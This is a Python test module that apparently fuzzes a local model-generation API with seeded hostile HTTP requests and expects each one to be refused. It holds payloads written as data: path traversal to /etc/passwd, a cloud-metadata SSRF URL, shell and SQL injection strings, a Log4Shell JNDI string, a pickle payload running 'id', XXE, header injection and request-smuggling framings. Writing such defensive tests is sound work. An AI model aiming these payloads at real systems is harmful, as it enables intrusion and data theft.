"""Hostile requests, as the bytes that go over the wire; equal seeds give equal requests.

Except for some ranges, none of them asks for something that exists, so every answer is a refusal. A kind is a function
of a random.Random and of the attacker's knowledge of the service (a valid key, the address of an artifact).
"""

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

VALID = {"generator": "mip", "architecture": "cnn-tiny", "dataset": "digits"}
NAMES = (
    "", " ", ".", "..", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "//etc/passwd",
    "....//....//jobs.sqlite", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data", "hf:imdb", "./digits",
    "mip\x00", "mip ", " mip", "MIP", "\uff4d\uff49\uff50", "mi\u200bp", "\u202epim", "m\u0456p", "mip\n", "mip%00",
    "mip;ls",
    "$(id)", "`id`", "| cat /etc/passwd", "' OR '1'='1", "'; DROP TABLE jobs; --", "{{7*7}}", "${jndi:ldap://x/a}",
    "<script>alert(1)</script>", "%s%s%s%n", "__import__('os')", "a" * 65, "a" * 5000, "\ud800", "💩" * 20, "-", "_",
    "null", "NaN", "../jobs.sqlite", "up-" + "0" * 64, "up-" + "g" * 64, "CON", "nul.txt", "~root", "*", "?", "\\",
)  # fmt: skip
NUMBERS = (-1, 2**63, -(2**63), 2**64, 10**30, 10**400, 1.5, 1e308, "0", "1", True, False, None, [], {}, [1], "")
ENCODED = (
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fjobs.sqlite", "..%5c..%5cx",
    "%252e%252e%252fetc%252fpasswd", "%c0%ae%c0%ae%c0%afetc", "..%c1%9c..", "%00", "a%00b", "a%0d%0aX-Injected:%201",
    "%0aX-Injected:1", "%ff%fe", "%e2%80%ae", "%uff0e%uff0e", "....%2f%2f", "%2fetc%2fpasswd", "..;/..;/etc/passwd",
    "%7e%72%6f%6f%74", "%25%30%30", "a" * 300, "%f0%9f%92%a9" * 30, "..", "%2e%2e", ".%00./", "%80", "%ed%a0%80",
)  # fmt: skip
PLACES = (
    "/v1/jobs/{}", "/v1/jobs/{}/events", "/v1/artifacts/{}", "/v1/artifacts/{}/files/config.json",
    "/v1/artifacts/{artifact}/files/{}", "/v1/generators/{}", "/v1/datasets/{}", "/static/{}",
    "/hf/gen/{}/resolve/main/config.json", "/hf/{}/x/resolve/main/config.json",
    "/hf/sha/{artifact}/resolve/{}/config.json", "/hf/sha/{artifact}/resolve/main/{}",
    "/hf/job/{}/resolve/main/config.json", "/hf/api/models/gen/{}", "/hf/api/models/sha/{artifact}/tree/{}",
    "/hf/api/models/sha/{artifact}/revision/{}", "/hf/api/models/{}/{}", "/docs/{}", "/{}",
)  # fmt: skip
ODD_METHODS = (
    "TRACE", "CONNECT", "PROPFIND", "TRACK", "DEBUG", "get", "PURGE", "LOCK", "X" * 200, "DELETE", "PATCH", "PUT",
)  # fmt: skip
FIELDS = ("generator", "architecture", "dataset", "seed", "support_per_class", "num_samples", "fallback", "x")


@dataclass(frozen=True)
class Known:
    """The attacker's knowledge."""

    token: str
    """A valid key with every scope; most attacks use it."""
    artifact: str
    """sha256 of an existing artifact."""


@dataclass(frozen=True)
class Attack:
    """The bytes that are sent on one connection."""

    kind: str
    sent: bytes
    may_be_silent: bool = False
    """Whether the connection may end without an answer: the request never ends, or the bytes are no request."""
    may_succeed: bool = False
    """Whether 2xx is allowed: the file exists, and the attack is on the amount that is sent."""


Make = Callable[[random.Random, Known], Attack]


def attacks(number: int, known: Known, *, seed: int = 0, kinds: dict[str, tuple[int, Make]]) -> Iterator[Attack]:
    """`number` random attacks; each kind is as frequent as its share."""
    rng = random.Random(seed)
    names, shares = list(kinds), [share for share, _ in kinds.values()]
    for name in rng.choices(names, shares, k=number):
        yield kinds[name][1](rng, known)


def request(known: Known | None, method: str, path: str, body: bytes | None = None, *headers: tuple[str, str]) -> bytes:
    """The bytes of a request; `headers` come after the usual ones, and a body adds Content-Length."""
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", "Connection: close"]
    lines += [f"Authorization: Bearer {known.token}"] if known else []
    lines += [f"{name}: {value}" for name, value in headers]
    if body is not None:
        lines += [] if any(name == "Content-Type" for name, _ in headers) else ["Content-Type: application/json"]
        lines += [f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogatepass") + (body or b"")


def to_json(value: Any) -> bytes:
    return json.dumps(value).encode()


def _post_path(rng: random.Random) -> str:
    return rng.choice(("/v1/generations", "/v1/estimate"))


def malformed_json(rng: random.Random, known: Known) -> Attack:
    valid = to_json({**VALID, "seed": rng.randrange(1000)})
    depth = rng.choice((40, 1000, 100_000))
    bodies = (
        valid[: rng.randrange(1, len(valid))],
        valid + rng.choice((b"}", b",", valid, b"\x00")),
        valid.replace(b'"', b"'"),
        valid[:-1] + b",}",
        valid[:-1] + rng.choice((b', "x": NaN}', b', "x": Infinity}', b', "x": -Infinity}', b', "x": 1e999}')),
        valid[:-1] + b', "seed": 1}',
        valid[:-1] + b', "x": ' + b"9" * rng.choice((5000, 100_000)) + b"}",
        rng.choice((b"[", b'{"a":', b'[{"a":')) * depth,
        b"[" * depth + b"]" * depth,
        b"\xef\xbb\xbf" + valid,
        valid.decode().encode(rng.choice(("utf-16", "utf-32", "utf-16-le", "utf-16-be"))),
        rng.randbytes(rng.randrange(1, 2000)) + b"\xff",
        b'{"generator": "\\u12"}',
        b'{"generator": "' + b"\\" * rng.choice((3, 10_001)),
        b"/* comment */ " + valid,
    )
    return Attack("malformed json", request(known, "POST", _post_path(rng), rng.choice(bodies)))


def wrong_types(rng: random.Random, known: Known) -> Attack:
    field: str = rng.choice(FIELDS)
    wrong: Any = rng.choice(NAMES)
    if field in ("seed", "support_per_class", "num_samples"):
        wrong = rng.choice(NUMBERS)
    elif field == "fallback":
        wrong = rng.choice((0, 1, "true", "false", None, [], {}, 1.0))
    elif field == "x":
        field, wrong = rng.choice(("__proto__", "constructor", "owner", "state", "callback", "\ud800", "")), {"a": 1}
    elif rng.random() < 0.4:
        wrong = rng.choice((None, 0, 1.5, True, [], {}, ["mip"], {"name": "mip"}))
    body: Any = {**VALID, field: wrong}
    if rng.random() < 0.15:
        body = rng.choice(([], [VALID], "mip", 1, None, True, {}, {"generator": "mip"}))
    return Attack("wrong types", request(known, "POST", _post_path(rng), to_json(body)))


def traversal(rng: random.Random, known: Known) -> Attack:
    place = rng.choice(PLACES).replace("{artifact}", known.artifact)
    while "{}" in place:
        place = place.replace("{}", rng.choice(ENCODED), 1)
    method = rng.choice(("GET", "GET", "GET", "HEAD", "DELETE"))
    return Attack("path traversal", request(known, method, place))


def hub_names(rng: random.Random, known: Known) -> Attack:
    words = ("cnn-tiny", "digits", "mip", "..", "", "%2e%2e", "a" * 40, "cnn-w99999999", "x.y")
    seed = rng.choice(("s-1", "s01", "s9223372036854775808", "s1e3", "sNaN", "s", "0", "s%00", "s0.s0", "s" + "9" * 80))
    name = rng.choice((".", "--", "%2f")).join([*rng.choices(words, k=3), seed])
    places = ("/hf/gen/{}/resolve/main/model.safetensors", "/hf/api/models/gen/{}", "/hf/api/models/gen/{}/tree/main")
    return Attack("hub names", request(known, rng.choice(("GET", "HEAD")), rng.choice(places).format(name)))


def header_bombs(rng: random.Random, known: Known) -> Attack:
    headers = rng.choice((
        [(f"X-{i}", "y" * rng.randrange(50)) for i in range(rng.choice((101, 500, 3000)))],
        [("Cookie", "a=b; " * rng.choice((5000, 50_000)))],
        [("X" * rng.choice((20_000, 200_000)), "y")],
        [("X-Injected", "a\r\n b: c\x00")],
        [("X-Forwarded-For", "127.0.0.1, " * 4000)],
        [("Range", "bytes=" + "0-," * 8000)],
        [("Accept-Encoding", "gzip;q=" + "1" * 20_000)],
    ))  # fmt: skip
    return Attack("header bombs", request(known, "GET", "/v1/jobs/none", None, *headers))


def long_targets(rng: random.Random, known: Known) -> Attack:
    filler = rng.choice(("a", "%41", "/", "../", "%2e", "&a=b")) * rng.choice((9000, 30_000))
    return Attack("long targets", request(known, "GET", rng.choice(("/v1/jobs/", "/healthz?", "/hf/gen/")) + filler))


def odd_methods(rng: random.Random, known: Known) -> Attack:
    paths = ("/healthz", "/v1/generators", "/v1/generations", "/metrics", "/openapi.json", "/", "*", "127.0.0.1:22")
    body = b"{}" if rng.random() < 0.5 else None
    return Attack("odd methods", request(known, rng.choice(ODD_METHODS), rng.choice(paths), body))


def wrong_content_types(rng: random.Random, known: Known) -> Attack:
    kind = rng.choice((
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "",
        "application/x-python-pickle", "application/json\x01", "json", "image/svg+xml", "application/yaml",
    ))  # fmt: skip
    body = rng.choice((to_json(VALID), b"cos\nsystem\n(S'id'\ntR.", b"<!DOCTYPE x [<!ENTITY a 'a'>]><x>&a;</x>"))
    return Attack("wrong content types", request(known, "POST", _post_path(rng), body, ("Content-Type", kind)))


def framing_lies(rng: random.Random, known: Known) -> Attack:
    valid = to_json({**VALID, "x": 1})
    head = request(known, "POST", "/v1/generations", None, ("Content-Type", "application/json"))[:-2]
    cut = rng.randrange(1, len(valid))
    chunk = b"%x\r\n%s\r\n" % (len(valid), valid)
    silent = (
        head + b"Content-Length: %d\r\n\r\n" % (len(valid) + 1000) + valid,
        head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk,
        head + b"Transfer-Encoding: chunked\r\n\r\nffffffff\r\n" + valid,
    )
    length = rng.choice((b"-1", b"1e3", b"+5", b"0x10", b"9" * 30, b"99999999999"))
    coding = rng.choice((b"gzip", b"chunked, identity", b"xchunked", b"\x0bchunked"))
    bad_chunk = rng.choice((b"zz\r\n", b"-1\r\n", b"1;" + b"a" * 70_000 + b"\r\n"))
    block = b"10000\r\n" + b" " * 65536 + b"\r\n"
    answered = (
        head + b"Content-Length: %d\r\n\r\n" % cut + valid,
        head + b"Content-Length: " + length + b"\r\n\r\n" + valid,
        head + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n" + valid,
        head + b"Content-Length: 5, 6\r\n\r\n" + valid,
        head + b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n" % len(valid) + chunk + b"0\r\n\r\n",
        head + b"Transfer-Encoding: " + coding + b"\r\n\r\n",
        head + b"Transfer-Encoding: chunked\r\n\r\n" + bad_chunk,
        head + b"Transfer-Encoding: chunked\r\n\r\n" + block * 20 + b"0\r\n\r\n",
        head + b"Content-Length: 2000000\r\n\r\n" + b" " * 100_000,
        head + b"Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\x8b\x08\x00",
        head.replace(b"HTTP/1.1", b"HTTP/" + rng.choice((b"9.9", b"2.0", b"1", b"x"))) + b"\r\n",
    )  # fmt: skip
    if rng.random() < 0.15:
        return Attack("framing lies", rng.choice(silent), may_be_silent=True)
    return Attack("framing lies", rng.choice(answered), may_be_silent=True)


def garbage(rng: random.Random, known: Known) -> Attack:
    sent = rng.choice((
        rng.randbytes(rng.randrange(1, 3000)),
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + rng.randbytes(200),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"*1\r\n$4\r\nPING\r\n",
        b"SSH-2.0-x\r\n\r\n",
        b"GET /v1/jobs/none\r\n\r\n",
        b"GET  /v1/jobs/none HTTP/1.1\r\n\r\n",
        b"GET /v1/jobs/none HTTP/1.1\nHost: x\n\n" + rng.randbytes(50),
        b"\r\n" * rng.choice((1, 5000)),
        b"GET /v1/jobs/none HTTP/1.1\r\nHost: x\r\n" + b" folded\r\n" * 100 + b"\r\n",
        b"GET /v1/jobs/none HTTP/1.1\r\n" + b"Host: x\r\n" * rng.randrange(2, 9) + b"\r\n",
        b"GET /v1/jobs/none HTTP/1.1\r\nHost: x\r\nX:" + rng.randbytes(20) + b"\r\n\r\n",
        b"".join(request(known, "GET", "/v1/jobs/none") for _ in range(50)),
    ))  # fmt: skip
    return Attack("garbage", sent, may_be_silent=True)


def keys(rng: random.Random, known: Known) -> Attack:
    key_id = known.token.split("_")[1]
    values = (
        "Bearer", "Bearer ", "Bearer hf_" + "a" * 34, f"Bearer wg_{key_id}_" + "a" * 43, "Basic d2c6d2c=",
        f"Bearer {known.token[:-1]}", f"Bearer {known.token}a", f"Bearer {known.token} x", "Bearer " + "a" * 9000,
        f"Token {known.token}", f"Bearer wg_{'0' * 12}_" + "a" * 43, "Bearer \xff\xfe", 'Digest username="x"',
    )  # fmt: skip
    headers = [("Authorization", rng.choice(values)) for _ in range(rng.choice((0, 1, 1, 1, 2)))]
    paths = ("/v1/generators", "/v1/jobs/none", f"/v1/artifacts/{known.artifact}", "/hf/api/models/sha/x", "/x")
    path = rng.choice(paths) + rng.choice(("", "?key=wg_x", "?access_token=x", "?authorization=Bearer%20x"))
    return Attack("keys", request(None, rng.choice(("GET", "HEAD", "DELETE")), path, None, *headers))


def ranges(rng: random.Random, known: Known) -> Attack:
    path = f"/v1/artifacts/{known.artifact}/files/config.json"
    value = rng.choice(("bytes=999999999-", "bytes=9999999-99999999", "bytes=99999999999999999-"))
    return Attack("ranges", request(known, "GET", path, None, ("Range", value)))


def range_bombs(rng: random.Random, known: Known) -> Attack:
    path = f"/v1/artifacts/{known.artifact}/files/config.json"
    value = rng.choice((
        "bytes=" + ",".join(["0-"] * 1300), "bytes=5-1", "bytes=-" + "9" * 40, "bits=0-1", "bytes=0-0,1-1",
        "bytes=" + "9" * 3000 + "-", "bytes=--1", "bytes=\xb2-\xb3",
    ))  # fmt: skip
    return Attack("range bombs", request(known, "GET", path, None, ("Range", value)), may_succeed=True)


def odd_headers(rng: random.Random, known: Known) -> Attack:
    if rng.random() < 0.3:
        key = ("Idempotency-Key", rng.choice(("k" * 256, "", "a\x00b", "k" * 9000)))
        return Attack("odd headers", request(known, "POST", "/v1/generations", to_json(VALID), key))
    header = rng.choice((
        ("Upgrade", "websocket"), ("Upgrade", "h2c"), ("Expect", "200-ok"), ("Last-Event-ID", "9" * 400),
        ("X-Forwarded-Host", "evil.example"), ("X-Original-URL", "/metrics"), ("X-HTTP-Method-Override", "DELETE"),
        ("Sec-Fetch-Site", "cross-site"), ("X-Request-Id", '"}{'), ("If-None-Match", '"' * 900),
        ("Host", "evil.example"), ("Range", "bytes=0-"), ("Accept", "../../etc/passwd"), ("TE", "trailers"),
    ))  # fmt: skip
    path = rng.choice(("/v1/jobs/none", "/v1/jobs/none/events", "/hf/api/models/job/none", "/v1/artifacts/none"))
    return Attack("odd headers", request(known, "GET", path, None, header))


KINDS: dict[str, tuple[int, Make]] = {
    "malformed json": (18, malformed_json),
    "wrong types": (18, wrong_types),
    "path traversal": (18, traversal),
    "hub names": (8, hub_names),
    "header bombs": (5, header_bombs),
    "long targets": (3, long_targets),
    "odd methods": (4, odd_methods),
    "wrong content types": (4, wrong_content_types),
    "framing lies": (6, framing_lies),
    "garbage": (5, garbage),
    "keys": (6, keys),
    "ranges": (2, ranges),
    "range bombs": (1, range_bombs),
    "odd headers": (4, odd_headers),
}
"""Name -> its share, and the function that makes one."""
